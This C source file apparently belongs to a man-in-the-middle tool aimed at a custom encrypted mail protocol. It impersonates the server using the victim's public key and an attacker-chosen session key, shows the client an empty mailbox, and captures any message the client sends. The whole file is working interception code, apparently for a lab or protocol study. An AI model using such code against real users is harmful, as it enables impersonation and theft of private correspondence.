/* The attacker as a classic server: all it takes is the victim's public key. It walks the steps of
 * the dialect as a server does, reads what the client sends, and has an empty mailbox. */
#include "../crypto/random.h"
#include "classic.h"
#include "mitm_relay.h"

struct fake {
	struct relay *r;
	const struct classic_dialect *dialect;
	struct classic wire;
	struct buf mail, text; /* an e-mail; a short text */
};

/* --- what it says, and what it hears --- */

static int put_text(void *arg, const struct classic_step *step, struct err *e)
{
	struct fake *f = arg;

	f->r->saying = "a prompt";
	return classic_send(&f->wire, step->text, e);
}

static int hear(struct fake *f, struct err *e)
{
	f->text.n = 0;
	conn_deadline(&f->r->conn[MITM_CLIENT], MITM_FAKE_MS);
	return classic_recv(&f->wire, &f->text, CLASSIC_TEXT_MAX, CLASSIC_QUIET_MS, e);
}

static int take_text(void *arg, const struct classic_step *step, struct err *e)
{
	(void)step;
	return hear(arg, e); /* whatever it is */
}

/* A line in place of what there is not, and what the dialect answers to it. */
static int put_nothing(struct fake *f, const char *short_line, struct err *e)
{
	f->r->saying = "there is nothing";
	if (short_line != NULL) {
		return classic_send(&f->wire, short_line, e) != 0 || hear(f, e) != 0 ? -1 : 1;
	}
	return classic_send(&f->wire, "There is no email to view", e) != 0 ? -1 : 1;
}

static int put_prompt(void *arg, const struct classic_step *step, struct err *e)
{
	struct fake *f = arg;

	return f->dialect->nothing_listed != NULL ? put_nothing(f, f->dialect->nothing_listed, e)
						  : put_text(arg, step, e);
}

static int put_mail(void *arg, const struct classic_step *step, struct err *e)
{
	struct fake *f = arg;

	(void)step;
	return put_nothing(f, f->dialect->no_such, e);
}

static int put_list(void *arg, const struct classic_step *step, struct err *e)
{
	struct fake *f = arg;
	char size[24];

	f->r->saying = "an empty list";
	if (step->text != NULL) {
		(void)snprintf(size, sizeof size, "%zu", aes_padded_len(strlen(CLASSIC_LIST_HEAD)));
		if (classic_send(&f->wire, size, e) != 0 || hear(f, e) != 0) {
			return -1;
		}
	}
	return classic_send(&f->wire, CLASSIC_LIST_HEAD, e);
}

/* --- what it steals --- */

static int on_head(void *arg, const struct message_head *h, const uint8_t *bytes, struct err *e)
{
	struct fake *f = arg;

	return message_format(&f->mail, h->from, h->to, -1, h->title, h->length) == 0 &&
			       bytes != NULL
		       ? 0
		       : err_set(e, EX_TEMPFAIL, "out of memory");
}

static int on_content(void *arg, const void *p, size_t n, struct err *e)
{
	struct fake *f = arg;

	return buf_append(&f->mail, p, n) == 0 ? 0 : err_set(e, EX_TEMPFAIL, "out of memory");
}

static int take_mail(void *arg, const struct classic_step *step, struct err *e)
{
	struct fake *f = arg;
	struct classic_mail mail = {.head = on_head, .content = on_content, .arg = f};
	enum classic_got got;

	f->mail.n = 0;
	f->r->saying = "a prompt";
	conn_deadline(&f->r->conn[MITM_CLIENT], MITM_FAKE_MS);
	got = classic_recv_step(&f->wire, step, &mail, e);
	if (got == CLASSIC_WHOLE) {
		relay_stole(f->r, &f->mail, "was read, and taken for sent");
	}
	return got == CLASSIC_BROKEN ? -1 : 0;
}

/* --- the session --- */

/* Fresh, and the attacker's own, under the victim's public key. */
static int give_key(struct fake *f, struct err *e)
{
	const struct rsa_public *victim = f->r->m->victim;
	uint8_t key[CLASSIC_KEY], block[RSA_BYTES_MAX];
	int rc = -1;

	if (victim == NULL) {
		return err_set(e, EX_USAGE, "impersonate needs the victim's public key");
	}
	f->r->saying = "a session's key, under the victim's public key";
	conn_deadline(&f->r->conn[MITM_CLIENT], MITM_FAKE_MS);
	if (random_bytes(key, sizeof key, e) == 0 &&
		rsa_oaep_encrypt(victim, key, sizeof key, block, e) == 0) {
		classic_init(&f->wire, &f->r->conn[MITM_CLIENT], key);
		f->wire.gap_ms = f->dialect->gap_ms;
		rc = conn_write(&f->r->conn[MITM_CLIENT], block, victim->n_len, e);
	}
	wipe(key, sizeof key);
	return rc;
}

static bool is(const struct buf *text, const char *want)
{
	return text->n == strlen(want) && memcmp(text->p, want, text->n) == 0;
}

/* 0 after a choice, 1 when the client leaves, -1. */
static int serve(struct fake *f, struct err *e)
{
	static const struct classic_side side = {.who = CLASSIC_S,
		.put = {[CLASSIC_SAY] = put_text,
			[CLASSIC_ASK] = put_prompt,
			[CLASSIC_LIST] = put_list,
			[CLASSIC_MAIL] = put_mail},
		.take = {[CLASSIC_SAY] = take_text,
			[CLASSIC_INDEX] = take_text,
			[CLASSIC_MAIL] = take_mail}};
	const struct classic_dialect *d = f->dialect;
	const struct classic_step *steps;

	f->r->saying = "the menu";
	if (classic_send(&f->wire, CLASSIC_MENU, e) != 0 || hear(f, e) != 0) {
		return -1;
	}
	steps = is(&f->text, "1")   ? d->send
		: is(&f->text, "2") ? d->list
		: is(&f->text, "3") ? d->view
				    : NULL;
	return steps == NULL ? 1 : classic_walk(&side, steps, f, e) < 0 ? -1 : 0;
}

int mitm_fake_classic(struct relay *r, struct err *e)
{
	static const struct classic_side opening = {.who = CLASSIC_S,
		.put = {[CLASSIC_SAY] = put_text},
		.take = {[CLASSIC_SAY] = take_text}};
	static struct fake f; /* its buffers are large; one session a process */
	int rc;

	f.r = r;
	f.dialect = r->m->dialect;
	relay_listen_in(r);
	rc = give_key(&f, e);
	rc = rc == 0 ? classic_walk(&opening, f.dialect->opening, &f, e) : rc;
	while (rc == 0) {
		rc = serve(&f, e);
	}
	buf_free(&f.mail);
	buf_free(&f.text);
	wipe(&f.wire, sizeof f.wire);
	relay_end(r);
	return rc < 0 ? -1 : 1;
}
